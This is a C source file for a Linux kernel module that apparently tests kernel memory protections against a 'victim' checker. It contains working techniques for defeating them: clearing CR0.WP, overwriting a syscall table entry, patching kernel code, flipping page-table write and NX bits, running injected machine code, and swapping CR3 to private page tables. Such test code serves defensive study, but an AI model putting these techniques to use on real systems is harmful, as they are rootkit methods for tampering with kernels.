// SPDX-License-Identifier: Apache-2.0 OR GPL-2.0
// Attacks on what the kernel has made read-only: by the bit that lets the processor write nevertheless, by the page tables, by
// page tables of the module's own.
#include <linux/io.h>
#include <linux/mm.h>
#include <asm/page.h>
#include "attack.h"

/* Writes with CR0.WP clear: read-only pages are writable to the kernel then. */
static void poke(unsigned long to, const void *from, unsigned long n)
{
	unsigned long flags = quiet(), was = cr0(), i;

	set_cr0(was & ~X86_CR0_WP);
	for (i = 0; i < n; i++)
		((volatile unsigned char *)to)[i] = ((const unsigned char *)from)[i];
	set_cr0(was);
	loud(flags);
}

/*
 * An entry of the table of system calls, of a number that is nobody's, becomes the module's. Kernels with the mitigations of
 * 2024 no longer call by that table, but have it for tracing.
 */
#define NOBODYS 400
static long fake(void)
{
	return 666;
}

int attack_syscall_table(void)
{
	long (*f)(void) = fake;

	if (!at.sys_call_table)
		return -ENOENT;
	poke(at.sys_call_table + NOBODYS * sizeof(long), &f, sizeof(f));
	return 0;
}

/* Code of the kernel's: a function that nobody calls returns at once. */
int attack_kernel_text(void)
{
	if (!at.vhangup)
		return -ENOENT;
	poke(at.vhangup, "\xc3", 1);
	return 0;
}

/* A constant: /proc/version says Linux Version, and victim_look has seen the bit. */
int attack_wp(void)
{
	unsigned long flags, was;

	if (!at.linux_proc_banner)
		return -ENOENT;
	flags = quiet();
	was = cr0();
	set_cr0(was & ~X86_CR0_WP);
	((volatile char *)at.linux_proc_banner)[3] = 'V';
	victim_look();
	set_cr0(was);
	loud(flags);
	return 0;
}

/* The page tables are read where the kernel has them, not where CR3 says, which may be somebody else's word. */

#define FRAME 0x000ffffffffff000UL
#define LARGE (1UL << 7)
#define NX (1UL << 63)

/* The entry that maps an address, and how many bits of the address it leaves. 0: none. */
static volatile unsigned long *entry_of(unsigned long a, int *shift)
{
	volatile unsigned long *e = (unsigned long *)current->active_mm->pgd;

	for (*shift = 39;; *shift -= 9) {
		e += a >> *shift & 511;
		if (!(*e & 1))
			return NULL;
		if (*shift == 12 || (*shift < 39 && *e & LARGE))
			return e;
		e = (unsigned long *)__va(*e & FRAME);
	}
}

static unsigned long physical(unsigned long a)
{
	int shift;
	volatile unsigned long *e = entry_of(a, &shift);

	return e ? (*e & FRAME & ~((1UL << shift) - 1)) | (a & ((1UL << shift) - 1)) : 0;
}

static bool five_levels(void)
{
	unsigned long v;

	asm volatile("mov %%cr4, %0" : "=r"(v));
	return v & X86_CR4_LA57;
}

static void flush(unsigned long a)
{
	asm volatile("invlpg (%0)" : : "r"(a) : "memory");
}

/* A constant again, by a bit of the entry that maps it: /proc/victim finds it changed. */
int attack_page_table(void)
{
	int shift;
	volatile unsigned long *e;
	unsigned long was;

	if (!at.linux_banner || five_levels())
		return -ENOENT;
	e = entry_of(at.linux_banner, &shift);
	if (!e)
		return -EFAULT;
	was = *e;
	*e = was | 2;
	flush(at.linux_banner);
	*(volatile char *)at.linux_banner = 'l';
	*e = was;
	flush(at.linux_banner);
	return 0;
}

/* Code in the module's data: mov $VICTIM_MAGIC, %eax; ret. */
static unsigned char data[2][PAGE_SIZE] __aligned(PAGE_SIZE);

static unsigned long run(unsigned char *page)
{
	static const unsigned char code[] = { 0xf3, 0x0f, 0x1e, 0xfa, 0xb8, 0x1e, 0xab, 0xa1, 0x5c, 0xc3 };
	int i;

	for (i = 0; i < sizeof(code); i++)
		WRITE_ONCE(page[i], code[i]);
	return call_at((unsigned long)page, 0, 0);
}

/* Data is made executable by a function of the kernel's, and run. */
int attack_exec_data(void)
{
	if (!at.set_memory_x)
		return -ENOENT;
	call_at(at.set_memory_x, (unsigned long)data[0], 1);
	victim_tell(VICTIM_DATA, run(data[0]));
	return 0;
}

/* The same by the entry that maps it. */
int attack_exec_page(void)
{
	int shift;
	volatile unsigned long *e;
	unsigned long was;

	if (five_levels())
		return -ENOENT;
	e = entry_of((unsigned long)data[1], &shift);
	if (!e)
		return -EFAULT;
	was = *e;
	*e = was & ~NX;
	flush((unsigned long)data[1]);
	victim_tell(VICTIM_PAGE, run(data[1]));
	*e = was;
	flush((unsigned long)data[1]);
	return 0;
}

/*
 * Page tables of the module's own, in its data, map two pages: the code that runs on them, where it is, and a page of the
 * kernel's code, writable, where nothing else is. Nothing else is there, not even a stack: no interrupt may come.
 */
static unsigned long tables[7][512] __aligned(PAGE_SIZE);
enum { PML4, CODE_PDPT, CODE_PD, CODE_PT, THERE_PDPT, THERE_PD, THERE_PT };
#define THERE 0x1000UL

void cr3_write(unsigned long root, unsigned long to, unsigned char what); /* cpu.c: within one page */

static void map(int pdpt, unsigned long a, unsigned long to)
{
	const unsigned long rights = 0x63; /* accessed and dirty, writable, present */

	tables[PML4][a >> 39 & 511] = physical((unsigned long)tables[pdpt]) | rights;
	tables[pdpt][a >> 30 & 511] = physical((unsigned long)tables[pdpt + 1]) | rights;
	tables[pdpt + 1][a >> 21 & 511] = physical((unsigned long)tables[pdpt + 2]) | rights;
	tables[pdpt + 2][a >> 12 & 511] = (to & FRAME) | rights;
}

int attack_cr3(void)
{
	unsigned long flags;

	if (!at.pivot_root || five_levels())
		return -ENOENT;
	map(CODE_PDPT, (unsigned long)cr3_write, physical((unsigned long)cr3_write));
	map(THERE_PDPT, THERE, physical(at.pivot_root));
	flags = quiet();
	cr3_write(physical((unsigned long)tables[PML4]), THERE | (at.pivot_root & ~PAGE_MASK), 0xc3);
	loud(flags);
	return 0;
}
